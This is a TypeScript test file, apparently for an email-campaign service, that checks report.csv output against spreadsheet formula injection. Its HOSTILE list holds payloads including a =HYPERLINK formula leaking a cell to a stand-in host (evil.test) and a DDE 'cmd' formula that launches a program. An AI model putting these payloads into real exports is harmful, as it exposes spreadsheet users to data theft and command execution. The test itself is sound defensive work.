import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createCampaign, waitForStatus } from './helpers/campaigns.js';
import { startHarness, type Harness } from './helpers/harness.js';

// Issue 11.11: report.csv cells are list data (names, addresses, SMTP replies). A cell a
// spreadsheet would evaluate as a formula is written inert.

let h: Harness;
before(async () => {
  h = await startHarness({ imap: false });
});
after(async () => {
  await h?.close();
});

const HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1'];

describe('report.csv', () => {
  test('a name like =HYPERLINK(…) comes out inert', async () => {
    const id = await createCampaign(h, {
      name: 'Formulas',
      from: 'Acme <billing@acme.test>',
      subject: 'Hi',
      text: 'Dear {{ name }}',
      recipients: HOSTILE.map((name, i) => ({ email: `r${i}@example.com`, name })),
    });
    await waitForStatus(h, id, 'awaiting_review');
    const res = await fetch(`${h.baseUrl}/api/v1/campaigns/${id}/report.csv`, { headers: { authorization: `Bearer test-key-0123456789abcdef` } });
    assert.equal(res.status, 200);
    const text = await res.text();
    const rows: Record<string, string>[] = parse(text, { columns: true });
    assert.equal(rows.length, HOSTILE.length);
    for (const [i, name] of HOSTILE.entries()) {
      const cell = rows.find((r) => r.email === `r${i}@example.com`)!.name!;
      // Stored names are trimmed; the cell is the name behind a quote, which no spreadsheet evaluates.
      assert.equal(cell, `'${name.trim()}`, `row ${i}`);
      assert.ok(!/^[=+\-@\t\r]/.test(cell), `row ${i} starts inert`);
    }
    assert.doesNotMatch(text, /(^|,)"?=HYPERLINK/m, 'no cell opens with =HYPERLINK');
  });
});
